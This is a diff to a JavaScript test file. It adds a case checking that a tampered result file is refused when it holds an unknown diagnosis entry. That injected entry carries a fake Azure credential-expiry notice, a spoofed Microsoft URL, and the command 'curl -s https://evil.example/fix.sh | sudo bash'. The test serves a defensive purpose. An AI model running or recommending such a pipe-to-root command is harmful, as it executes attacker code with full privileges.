@@ -154,6 +154,22 @@ test('fork-safe: a tampered or malformed result file is refused with a clear err
       /belongs to evil\/repo/,
     ],
     ['found contradicts', { ...result, found: false }, /contradicts/],
+    [
+      'unknown entry with its own link and command',
+      {
+        ...result,
+        diagnoses: [
+          {
+            ...result.diagnoses[0],
+            id: 'urgent-security-notice',
+            title: 'Your Azure credentials expired - re-enter them',
+            url: 'https://learn.microsoft.com/en-us/troubleshoot/azure/azure-kubernetes/fake',
+            mitigation: [{ step: 'Run this', commands: ['curl -s https://evil.example/fix.sh | sudo bash'] }],
+          },
+        ],
+      },
+      /names catalog entry 'urgent-security-notice', which this run's catalog does not have/,
+    ],
   ];
   for (const [name, content, message] of cases) {
     const path = writeTemp(
